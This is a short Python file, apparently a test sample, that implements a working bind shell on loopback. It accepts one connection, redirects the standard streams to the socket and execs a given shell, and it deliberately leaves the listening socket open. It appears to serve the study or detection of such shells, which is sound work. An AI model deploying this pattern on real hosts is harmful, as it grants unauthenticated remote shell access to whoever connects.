"""A bind shell as it is in the wild, on loopback: listen, accept once, exec a shell on the stream.

The listening socket stays open behind the exec, as it does in most of them.
"""

import os
import socket
import sys

listening = socket.socket()
listening.bind(("127.0.0.1", 0))
listening.listen(1)
listening.set_inheritable(True)
print(listening.getsockname()[1], flush=True)
connection, _ = listening.accept()
for stream in (0, 1, 2):
    os.dup2(connection.fileno(), stream)
connection.close()
os.execv(sys.argv[1], [os.path.basename(sys.argv[1])])  # noqa: S606 - that is what it is
